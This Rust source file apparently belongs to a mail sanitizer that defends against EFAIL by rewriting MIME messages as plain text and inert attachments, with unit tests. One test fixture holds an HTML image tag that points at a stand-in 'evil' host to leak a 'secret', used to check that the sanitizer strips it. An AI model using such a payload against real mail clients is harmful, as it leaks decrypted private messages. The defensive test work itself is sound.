//! A content of which only the text may be shown (EFAIL: ciphertext that nobody signed can be sewn together by others).
//!
//! Nothing of its structure is kept: each leaf is decoded and written anew, with a header of ours, in a form in which no
//! delimiter can stand. A mail program that reads boundaries otherwise than Souspli does finds no HTML either.

use super::{lookalike, page};
use crate::mime::edit::{LINE_MAX, is_attachment, is_html, text_of};
use crate::mime::encode::{base64_lines, qp_encode, transfer_decode};
use crate::mime::entity::{Entity, Kind, parse};
use crate::mime::header::Header;
use crate::mime::parameters::{Parameterized, content_type, disposition, transfer_encoding};
use std::borrow::Cow;

/// `=_` stands in no base64 and in no quoted-printable (RFC 2045 §6.7); a text that holds it is not left as it is.
const BOUNDARY: &str = "=_souspli-text";
const DELIMITED: &str = "=_";

/// The content as a multipart/mixed of texts and, behind them, attachments, none of them HTML, multipart or message.
pub fn text_only(content: &[u8]) -> Vec<u8> {
    let mut found = Parts::default();
    found.collect(content, &parse(content));
    let mut out = format!("Content-Type: multipart/mixed; boundary=\"{BOUNDARY}\"\r\n").into_bytes();
    for part in found.texts.into_iter().chain(found.files) {
        out.extend_from_slice(format!("\r\n--{BOUNDARY}\r\n").as_bytes());
        out.extend(part);
    }
    out.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    out
}

/// Texts stand before files: a picture is shown where it stands, and must not stand above the banner.
#[derive(Default)]
struct Parts {
    texts: Vec<Vec<u8>>,
    files: Vec<Vec<u8>>,
}

impl Parts {
    fn collect(&mut self, bytes: &[u8], entity: &Entity) {
        match &entity.kind {
            Kind::Multipart(inside) => {
                let one_form = entity.media_type == "multipart/alternative";
                let says = inside.iter().any(|part| plain(bytes, part) == Plain::Text);
                for part in inside {
                    match plain(bytes, part) {
                        Plain::Empty if one_form => {}
                        Plain::Other if one_form && says => self.collect_without_page(bytes, part),
                        _ => self.collect(bytes, part),
                    }
                }
            }
            Kind::Message(_) => self.files.push(file(bytes, entity)),
            Kind::Leaf => {
                let header = Header::parse(&bytes[entity.header.clone()]).0;
                let text = text_of(bytes, entity).filter(|_| is_shown(&header, entity));
                let is_page_with_name = is_html(&entity.media_type) && name(&header).is_some();
                if text.is_none() || is_page_with_name {
                    self.files.push(file(bytes, entity));
                }
                self.texts.extend(text.map(|(text, _)| written(&text, &entity.media_type)));
            }
        }
    }

    /// What comes with a page whose words stand beside it: the page itself is left out, also where its pictures stand with it.
    fn collect_without_page(&mut self, bytes: &[u8], entity: &Entity) {
        match &entity.kind {
            Kind::Leaf if is_html(&entity.media_type) => {
                let header = Header::parse(&bytes[entity.header.clone()]).0;
                if is_attachment(&header) || name(&header).is_some() {
                    self.files.push(file(bytes, entity));
                }
            }
            Kind::Multipart(inside) if entity.media_type == "multipart/related" => {
                for part in inside {
                    self.collect_without_page(bytes, part);
                }
            }
            _ => self.collect(bytes, entity),
        }
    }
}

/// Whether a text is read in its place. Where a page is only named, that may be the letter: it is read there and kept as well.
fn is_shown(header: &Header<'_>, entity: &Entity) -> bool {
    match is_html(&entity.media_type) {
        true => disposition(header).is_none_or(|said| said.value == "inline"),
        false => !is_attachment(header),
    }
}

/// What a part of an alternative has to say in plain text.
#[derive(PartialEq, Eq)]
enum Plain {
    Text,
    /// Some programs put an empty one beside their page.
    Empty,
    Other,
}

fn plain(bytes: &[u8], part: &Entity) -> Plain {
    let shown = part.media_type == "text/plain" && !is_attachment(&Header::parse(&bytes[part.header.clone()]).0);
    match text_of(bytes, part).filter(|_| shown) {
        Some((text, _)) if text.trim().is_empty() => Plain::Empty,
        Some(_) => Plain::Text,
        None => Plain::Other,
    }
}

fn written(text: &str, media_type: &str) -> Vec<u8> {
    let text = if is_html(media_type) { page::told(text) } else { text.to_owned() };
    // References and tags can hide a token of ours that is plain to see now.
    let text = lookalike::defanged(&text).unwrap_or(text);
    let (coding, body) = encoded(&text);
    let mut out = format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {coding}\r\n\r\n").into_bytes();
    out.extend(body);
    out
}

/// As it is where that can be: a text that grew would not fit into the size that a listing has told.
fn encoded(text: &str) -> (&'static str, Vec<u8>) {
    let octets = text.as_bytes();
    let lines = text.split("\r\n").all(|l| l.len() <= LINE_MAX && !l.contains(['\r', '\n', '\0']));
    if lines && !text.contains(DELIMITED) {
        return ("8bit", octets.to_vec());
    }
    let quoted = qp_encode(octets);
    if quoted.len() > octets.len() * 4 / 3 + 100 {
        ("base64", base64_lines(octets))
    } else {
        ("quoted-printable", quoted)
    }
}

/// An attachment with its octets, under a type that no mail program opens by itself.
fn file(bytes: &[u8], entity: &Entity) -> Vec<u8> {
    let header = Header::parse(&bytes[entity.header.clone()]).0;
    let body = &bytes[entity.body.clone()];
    let octets = transfer_decode(transfer_encoding(&header), body).unwrap_or(body.into());
    // Thunderbird shows a file of text by its name, whatever its type.
    let octets = std::str::from_utf8(&octets)
        .ok()
        .and_then(lookalike::defanged)
        .map_or(octets, |text| Cow::Owned(text.into_bytes()));
    let kind = if is_inert(&entity.media_type) {
        entity.media_type.as_str()
    } else {
        "application/octet-stream"
    };
    let mut place = Parameterized {
        value: "attachment".to_owned(),
        ..Parameterized::default()
    };
    let unnamed = match &entity.kind {
        Kind::Message(_) => Some("message.eml"),
        Kind::Leaf if is_html(&entity.media_type) => Some("page.html"),
        Kind::Leaf | Kind::Multipart(_) => None,
    };
    if let Some(name) = name(&header).or_else(|| unnamed.map(str::to_owned)) {
        let shown = lookalike::defanged(&name).unwrap_or(name);
        let shown = lookalike::renamed(&shown).unwrap_or(shown);
        let end = if is_page(&shown) { ".txt" } else { "" };
        place.parameters.insert("filename".to_owned(), shown + end);
    }
    let place = place.write();
    let mut out = format!("Content-Type: {kind}\r\nContent-Disposition: {place}\r\nContent-Transfer-Encoding: base64\r\n\r\n").into_bytes();
    out.extend(base64_lines(&octets));
    out
}

/// Types that are listed or shown as a picture, and written as a type is.
fn is_inert(media_type: &str) -> bool {
    let spelled = media_type.bytes().all(|b| b.is_ascii_alphanumeric() || b"/.+-_".contains(&b));
    let active = ["text/", "multipart/", "message/"].iter().any(|p| media_type.starts_with(p));
    let cms = media_type.contains("pkcs7");
    spelled && !active && !cms && !media_type.contains("html") && !media_type.contains("svg") && !media_type.contains("xml")
}

/// Under such a name a file opens in a browser, which fetches what it asks for.
fn is_page(name: &str) -> bool {
    let name = name.trim_end_matches(['.', ' ']).to_lowercase();
    let end = name.rsplit('.').next().unwrap_or_default();
    matches!(
        end,
        "html" | "htm" | "xhtml" | "xht" | "shtml" | "mht" | "mhtml" | "svg" | "svgz" | "xml" | "xsl" | "hta" | "url" | "webloc"
    )
}

fn name(header: &Header<'_>) -> Option<String> {
    let given = disposition(header).and_then(|d| d.parameter("filename").map(str::to_owned));
    given.or_else(|| content_type(header).parameter("name").map(str::to_owned))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(content: &[u8]) -> Vec<String> {
        let tree = parse(content);
        tree.children().iter().map(|c| c.media_type.clone()).collect()
    }

    #[test]
    fn html_becomes_text_and_the_rest_files() {
        let mail = b"Content-Type: multipart/mixed; boundary=m\r\n\r\n<img src=http://evil/\r\n--m\r\nContent-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<img src=\"http://evil/?<p>secret\"><p>Bonjour</p>\r\n--r\r\nContent-Type: image/png; name=a.png\r\nContent-Transfer-Encoding: base64\r\n\r\nAAAA\r\n--r--\r\n--m\r\nContent-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--m\r\nContent-Type: text/html; charset=utf-32\r\n\r\n<b>\r\n--m\r\nContent-Type: multipart/mixed\r\n\r\n<b>\r\n--m--\r\n";
        let out = text_only(mail);
        assert_eq!(
            kinds(&out),
            [
                "text/plain",
                "image/png",
                "application/octet-stream",
                "application/octet-stream",
                "application/octet-stream"
            ]
        );
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.contains("Bonjour") && text.contains("filename=\"a.png\"") && text.contains("message.eml"),
            "{text}"
        );
        assert!(
            !text.contains("evil") && !text.contains("<b>") && !text.contains("text/html"),
            "{text}"
        );
    }

    #[test]
    fn an_alternative_gives_its_text_once() {
        let mail = b"Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n\r\ntext\r\n--=_souspli-text\r\n--a\r\nContent-Type: text/html\r\n\r\n<p>text\r\n--a--\r\n";
        let out = text_only(mail);
        assert_eq!(kinds(&out), ["text/plain"]);
        assert!(String::from_utf8(out).unwrap().contains("text\r\n--=3D_souspli-text"));
    }

    #[test]
    fn a_page_beside_an_empty_text_is_not_lost() {
        let page = "Content-Type: text/html\r\n\r\n<p>Bonjour";
        for (kind, text, shown) in [
            ("text/plain", "\r\n \r\n", true),
            ("text/plain; charset=utf-8", "\u{a0}\r\n", true),
            ("text/plain\r\nContent-Disposition: attachment; filename=a.txt", "x", true),
            ("text/plain; charset=x-unknown", "x", false),
            ("text/plain", "Salut", false),
        ] {
            let mail = format!(
                "Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\nContent-Type: {kind}\r\n\r\n{text}\r\n--a\r\n{page}\r\n--a--\r\n"
            );
            let out = String::from_utf8(text_only(mail.as_bytes())).unwrap();
            assert_eq!(out.contains("Bonjour"), shown, "{kind}: {out}");
            assert_eq!(
                kinds(out.as_bytes()).iter().filter(|kind| *kind == "text/plain").count(),
                1,
                "{out}"
            );
        }
    }

    #[test]
    fn a_page_with_its_pictures_is_not_shown_beside_its_text() {
        let mail = b"Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n\r\nBonjour\r\n--a\r\nContent-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n<p>Bonjour\r\n--r\r\nContent-Type: image/png\r\n\r\nx\r\n--r--\r\n--a--\r\n";
        assert_eq!(kinds(&text_only(mail)), ["text/plain", "image/png"]);
    }

    #[test]
    fn an_attached_page_is_kept_whole_and_does_not_open() {
        let page = "<table><td>INR</td><td>2</td></table>";
        for (head, expected, is_read) in [
            ("text/html\r\nContent-Disposition: attachment; filename=cr.htm", "cr.htm.txt", false),
            ("text/html\r\nContent-Disposition: attachment", "page.html.txt", false),
            (
                "application/xhtml+xml; name=cr.xhtml\r\nContent-Disposition: attachment",
                "cr.xhtml.txt",
                false,
            ),
            ("text/html; name=cr.html", "cr.html.txt", true),
            ("text/html\r\nContent-Disposition: inline; filename=cr.html", "cr.html.txt", true),
        ] {
            for beside in ["", "--m\r\n\r\nBonjour\r\n"] {
                for kind in ["mixed", "alternative"] {
                    let mail = format!(
                        "Content-Type: multipart/{kind}; boundary=m\r\n\r\n{beside}--m\r\nContent-Type: {head}\r\n\r\n{page}\r\n--m--\r\n"
                    );
                    let out = text_only(mail.as_bytes());
                    let tree = parse(&out);
                    let file = tree.children().iter().find(|part| part.media_type != "text/plain").unwrap();
                    assert_eq!(file.media_type, "application/octet-stream");
                    let header = String::from_utf8_lossy(&out[file.header.clone()]);
                    assert!(
                        header.contains("attachment;") && header.contains(&format!("filename=\"{expected}\"")),
                        "{header}"
                    );
                    let body = transfer_decode(crate::mime::parameters::TransferEncoding::Base64, &out[file.body.clone()]);
                    assert_eq!(body.as_deref(), Some(page.as_bytes()));
                    let is_read = is_read && (kind == "mixed" || beside.is_empty());
                    assert_eq!(String::from_utf8_lossy(&out).contains("INR | 2"), is_read, "{head} {kind}");
                }
            }
        }
    }

    #[test]
    fn what_references_and_tags_hid_is_no_token_of_ours() {
        for html in ["&#91;Souspli]", "<b>[Sous</b>pli]", "&lsqb;Sous&shy;pli&rsqb;", "[So&#117;spli]"] {
            let mail = format!("Content-Type: text/html; charset=utf-8\r\n\r\n<p>{html} ok</p>");
            let text = String::from_utf8(text_only(mail.as_bytes())).unwrap();
            assert!(text.contains("(faux)") && !text.to_lowercase().contains("souspli]"), "{text}");
        }
    }

    #[test]
    fn text_does_not_grow_and_pages_do_not_open() {
        let text = "-- \r\nDr Zoé = voilà\r\n".repeat(100);
        let mail = format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{text}");
        assert!(String::from_utf8(text_only(mail.as_bytes())).unwrap().contains(&text));
        for (name, expected) in [
            ("a.HTML", "a.HTML.txt"),
            ("a.svg.", "a.svg..txt"),
            ("a.pdf", "a.pdf"),
            ("[Souspli].png", "(faux).png"),
        ] {
            let mail = format!("Content-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment\r\n\r\n<img>");
            let out = String::from_utf8(text_only(mail.as_bytes())).unwrap();
            assert!(out.contains(&format!("filename=\"{expected}\"")), "{out}");
        }
    }
}
